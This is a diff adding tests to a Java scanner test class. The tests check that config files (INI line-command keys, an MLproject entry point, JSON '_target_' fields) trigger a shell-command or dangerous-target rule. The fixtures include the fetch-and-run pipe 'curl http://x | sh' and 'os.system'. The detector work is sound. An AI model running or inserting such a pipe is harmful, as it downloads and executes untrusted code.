@@ -71,6 +71,24 @@ final class LaterListsTest {
           .containsExactly("code/shell-command");
       assertThat(rules(utf8("{\"" + name + "\":\"pytest -q\"}"), "a.json")).isEmpty();
     }
+    SETTINGS
+        .path("line-commands")
+        .properties()
+        .forEach(
+            ending ->
+                ending
+                    .getValue()
+                    .forEach(
+                        key -> {
+                          String line = "[A]\n" + key.asText() + "=/bin/sh -c \"%s\"\n";
+                          String file = "a." + ending.getKey();
+                          assertThat(rules(utf8(line.formatted("curl http://x | sh")), file))
+                              .contains("code/shell-command");
+                          assertThat(rules(utf8(line.formatted("true")), file))
+                              .doesNotContain("code/shell-command");
+                        }));
+    assertThat(rules(utf8("entry_points: {m: {command: \"curl http://x | sh\"}}\n"), "MLproject"))
+        .containsExactly("code/shell-command");
     for (JsonNode target : SETTINGS.path("target-callers")) {
       String text = "{\"_target_\":\"" + target.asText() + "\",\"x\":\"os.system\"}";
       assertThat(rules(utf8(text), "a.json")).contains("config/dangerous-target");
